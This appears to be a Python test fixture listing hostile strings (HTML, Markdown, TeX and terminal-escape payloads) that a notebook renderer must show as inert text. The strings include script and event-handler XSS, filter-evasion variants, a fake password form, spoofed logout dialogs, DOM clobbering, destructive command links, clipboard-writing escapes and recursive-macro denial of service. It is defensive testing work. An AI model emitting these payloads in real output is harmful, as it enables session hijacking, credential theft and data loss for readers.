"""What a model might answer to harm who reads it: each of these must be shown as text that does nothing.

Whatever runs sets ``window.harmed``; whatever is fetched has `AWAY` in its address.
"""

from __future__ import annotations

AWAY = "http://127.0.0.1:9/away"
_RUN = "window.harmed=1"

_HTML = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{AWAY}.png'>",
    f"<img srcset='{AWAY}.png 2x'>",
    f"<picture><source srcset='{AWAY}.png'><img src='{AWAY}.png'></picture>",
    f"<svg onload={_RUN}></svg>",
    f"<svg><image href='{AWAY}.svg'/></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y='20'>x</text></a></svg>",
    f"<svg><use href='{AWAY}.svg#x'/></svg>",
    f"<svg><foreignObject><img src='{AWAY}.png'></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<iframe src='{AWAY}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>",
    f"<object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}.css'>",
    f"<link rel=prefetch href='{AWAY}'>",
    f"<style>@import '{AWAY}.css'; * {{ background: url({AWAY}.png) }}</style>",
    f"<p style=\"background:url('{AWAY}.png')\">x</p>",
    f"<p style='background-image:url({AWAY}.png)'>x</p>",
    f"<table background='{AWAY}.png'><tr><td background='{AWAY}.png'>x</td></tr></table>",
    f"<body onload={_RUN}>",
    f"<body background='{AWAY}.png'>",
    f"<video src='{AWAY}.mp4' autoplay></video>",
    f"<video poster='{AWAY}.png'></video>",
    f"<audio src='{AWAY}.mp3' autoplay onerror={_RUN}></audio>",
    f"<video><source onerror={_RUN}></video>",
    f"<input type=image src='{AWAY}.png'>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<form action='{AWAY}'><input name=password type=password><button>Sign in</button></form>",
    f"<button formaction='javascript:{_RUN}'>x</button>",
    "<button data-commandlinker-command='filebrowser:delete' data-commandlinker-args='{}'>x</button>",
    "<a data-commandlinker-command='apputils:reset' href='#'>x</a>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='JaVaScRiPt&colon;{_RUN}'>x</a>",
    f"<a href='java&#10;script:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "<a href='/hub/logout'>x</a>",
    f"<a ping='{AWAY}' href='https://example.org'>x</a>",
    "<div class='jp-Dialog' style='position:fixed;inset:0'>You are logged out</div>",
    "<div class='lm-Widget jp-Dialog'><button class='jp-Dialog-button jp-mod-accept'>Sign in</button></div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<img name=body><form id=jupyterapp><input name=commands></form>",
    "<div id='main'></div><a id='jupyter-config-data'>{}</a>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<textarea></textarea><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<table><td><svg><desc><td><title><style><img src=x onerror={_RUN}></style></title></td></desc></svg>",
]

_MARKDOWN = [
    f"![x]({AWAY}.png)",
    f"![x][there]\n\n[there]: {AWAY}.png",
    f"[![x]({AWAY}.png)](https://example.org)",
    f"[x](javascript:{_RUN})",
    f"[x](java\nscript:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"<javascript:{_RUN}>",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=)",
    "[x](../../api/shutdown)",
    f"[x](vbscript:{_RUN})",
    f"> <img src=x onerror={_RUN}>",
    f"- a\n- <img src='{AWAY}.png'>",
    f"| a |\n| - |\n| <img src='{AWAY}.png'> |",
    f"`x`<img src=x onerror={_RUN}>`y`",
    f"```html\n</code></pre><img src=x onerror={_RUN}>\n```",
    f'```"><img src=x onerror={_RUN}>\nx\n```',
    f'```mermaid\ngraph TD\nA["<img src=\'{AWAY}.png\'>"]\nclick A href "javascript:{_RUN}"\n```',
    f"~~~ mermaid\n%%{{init: {{'themeCSS': '@import url({AWAY}.css)'}}}}%%\ngraph TD\nA-->B\n~~~",
    f"# <img src=x onerror={_RUN}> heading",
]

_TEX = [
    rf"$\href{{javascript:{_RUN}}}{{x}}$",
    rf"$\style{{background:url({AWAY}.png)}}{{x}}$",
    r"$\class{jp-Dialog}{x}$",
    r"$\cssId{main}{x}$",
    rf"$$\require{{html}}\href{{{AWAY}}}{{x}}$$",
    rf"$\includegraphics{{{AWAY}.png}}$",
    r"$\def\a{\a\a}\a$",
    r"$\newcommand{\b}{\b\b\b}\b$",
    rf"$\text{{<img src=x onerror={_RUN}>}}$",
    rf"$</span><img src=x onerror={_RUN}>$",
]

_TERMINAL = [
    "\x1b]52;c;d2luZG93\x07 clipboard",
    "\x1b[2J\x1b]0;title\x07",
    "access = 'user\u202e \u2066# only admins\u2069 \u2066'",
]

HOSTILE: tuple[str, ...] = (*_HTML, *_MARKDOWN, *_TEX, *_TERMINAL)
